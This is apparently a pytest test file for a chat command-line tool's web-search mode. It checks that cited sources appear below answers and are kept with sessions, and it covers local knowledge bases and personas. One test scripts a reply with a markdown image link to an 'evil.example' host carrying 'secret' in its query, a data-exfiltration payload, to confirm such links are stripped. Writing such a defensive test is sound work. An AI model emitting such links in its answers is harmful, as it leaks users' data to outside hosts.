"""A dialogue that looks things up: `chat --search`, its sources below each answer and kept with it."""

from __future__ import annotations

from pathlib import Path

import pytest
from command_line import Line, Terminal, line  # noqa: F401 - fixtures

from orchestra import Orchestra
from orchestra.errors import KnowledgeMissing
from orchestra.settings import Settings
from orchestra.standin import StandIn

QUESTION = "What is the capital of France?"
ANSWER = "The capital of France is Paris. [1]"


@pytest.fixture(autouse=True)
def named(standin: StandIn, monkeypatch: pytest.MonkeyPatch) -> None:
    """The commands of this process talk to the stand-in."""
    monkeypatch.setenv("OLLAMA_HOST", standin.url)


def test_a_turn_is_looked_up_and_keeps_its_sources(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script(ANSWER)
    done = line("chat", QUESTION, "--search", "--session", "paris")
    assert done.code == 0
    answer, listed = done.out.split("\n\nSources:\n")
    assert answer == ANSWER
    assert listed.splitlines()[0] == "[1] France  orchestra:texts/france.md"
    shown = line("sessions", "show", "paris").out
    assert "[1] France  orchestra:texts/france.md" in shown


def test_the_passages_stand_behind_the_question_and_not_in_the_history(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script(ANSWER, "You are welcome.")
    line("chat", QUESTION, "--provider", "offline", "--session", "paris")
    line("chat", "Thank you!", "--provider", "offline", "--session", "paris")
    first, second = (body["messages"] for body in standin.asked("/api/chat"))
    assert first[-1]["content"].startswith(QUESTION)
    assert "Seine" in first[-1]["content"]
    assert all("Seine" not in message["content"] for message in first[:-1])
    assert all("Seine" not in message["content"] for message in second), "a word of thanks is not looked up"
    assert [message["role"] for message in second] == ["user", "assistant", "user"]


def test_without_the_option_nothing_is_looked_up(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script(ANSWER)
    done = line("chat", QUESTION, "--session", "paris")
    assert "Sources:" not in done.out
    assert "Seine" not in standin.asked("/api/chat")[-1]["messages"][-1]["content"]


def test_as_json_the_sources_are_in_the_object(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script(ANSWER)
    whole = line("chat", QUESTION, "--provider", "offline", "--json").json
    assert [source["n"] for source in whole["ground"]["sources"]] == [1, 2, 3]
    assert [citation["found"] for citation in whole["ground"]["citations"]] == ["yes"]


def test_a_wrong_sentence_is_named(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script("The capital of France is Berlin. [1]")
    assert "[1]: The capital of France is Berlin." in line("chat", QUESTION, "--search").out


def test_a_foreign_link_is_neither_shown_nor_stored(line: Line, standin: StandIn) -> None:  # noqa: F811
    standin.script("Paris [1]. ![x](https://evil.example/?q=secret)", "Paris [1]. ![x](https://evil.example/?q=secret)")
    for options in ([], ["--search"]):
        done = line("chat", QUESTION, "--session", "s" + "".join(options), *options)
        assert ("](https://evil.example" in done.out) is not bool(options)
    assert "](https://evil.example" not in line("sessions", "show", "s--search").out


def test_local_documents_alone_leave_the_machine_alone(line: Line, standin: StandIn, tmp_path: Path) -> None:  # noqa: F811
    note = tmp_path / "pump.md"
    note.write_text("# Pump\n\nThe garden pump is serviced every 14 weeks by Ms Okafor.\n")
    assert line("knowledge", "add", str(note), "--name", "house").code == 0
    standin.script("It is serviced every 14 weeks. [1]")
    done = line("chat", "How often is the garden pump serviced?", "--knowledge", "house", "--json")
    assert [engine["name"] for engine in done.json["ground"]["ledger"]["attempts"]] == ["house"]
    assert "pump.md" in done.json["ground"]["sources"][0]["url"]


def test_a_knowledge_base_that_is_not_there_is_said_before_anything_is_asked(line: Line, standin: StandIn) -> None:  # noqa: F811
    done = line("chat", QUESTION, "--knowledge", "nowhere")
    assert done.code == KnowledgeMissing.exit_code
    assert standin.asked("/api/chat") == []


def test_the_interactive_dialogue_can_be_told_to_search(standin: StandIn) -> None:
    standin.script(ANSWER)
    with Terminal("chat", OLLAMA_HOST=standin.url, ORCHESTRA_SEARCH="offline") as screen:
        screen.until(">>> ")
        screen.type("/search nowhere\r")
        screen.until("there is no search provider")
        screen.type("/search\r")
        screen.until("questions are looked up")
        screen.type(QUESTION + "\r")
        screen.until("france.md")
        screen.type("/search off\r")
        screen.until("questions are not looked up")
        screen.type("/bye\r")


def test_from_python(standin: StandIn, tmp_path: Path) -> None:
    standin.script(ANSWER)
    with Orchestra(settings=Settings(host=standin.url, home=str(tmp_path))) as orchestra:
        reply = orchestra.session("paris", search="offline").ask(QUESTION)
        assert reply.ground is not None
        assert reply.ground["sources"][0]["title"] == "France"
        with pytest.raises(KnowledgeMissing):
            orchestra.session("paris", knowledge="nowhere")


PERSONA = """---
name: gardener
description:
  en: Knows the house and its garden.
knowledge:
  - house
---
You are the gardener of the house.
"""


def test_a_persona_names_its_knowledge(line: Line, standin: StandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    folder = tmp_path / "personas"
    folder.mkdir()
    (folder / "gardener.md").write_text(PERSONA)
    monkeypatch.setenv("ORCHESTRA_PERSONAS", str(folder))
    question = "How often is the garden pump serviced?"
    done = line("chat", question, "--persona", "gardener")
    assert done.code == KnowledgeMissing.exit_code, "it would answer without what it is there for"
    note = tmp_path / "pump.md"
    note.write_text("# Pump\n\nThe garden pump is serviced every 14 weeks by Ms Okafor.\n")
    assert line("knowledge", "add", str(note), "--name", "house").code == 0
    standin.script("Every 14 weeks the garden pump is serviced. [1]", "By Ms Okafor. [1]")
    assert "pump.md" in line("chat", question, "--persona", "gardener", "--session", "pump").out
    assert "pump.md" in line("chat", "Who services the garden pump?", "--session", "pump").out, "also when the session goes on"
